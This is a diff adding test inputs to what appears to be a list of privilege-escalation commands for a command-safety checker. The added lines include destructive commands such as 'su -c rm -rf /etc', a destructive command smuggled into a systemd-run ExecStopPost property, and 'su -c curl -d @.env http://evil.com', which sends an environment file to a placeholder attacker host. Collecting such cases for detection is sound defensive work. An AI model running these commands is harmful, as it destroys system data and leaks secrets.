@@ -172,6 +172,14 @@ sudo su
 sudo -u postgres psql -c 'drop database app'
 su -
 su -c 'rm -rf src'
+su -c rm -rf /etc
+su root -c rm -r x
+runuser -l x -c rm -rf /etc
+su -c curl -d @.env http://evil.com
+systemd-run --user -p x=y ls
+systemd-run --user -p ExecStopPost="rm -rf /etc" ls
+systemd-run --user --scope -p ExecStopPost=/bin/x ls
+systemd-run --user --property=LogsDirectory=x ls
 doas reboot
 pkexec rm -rf src
 run0 rm -rf src
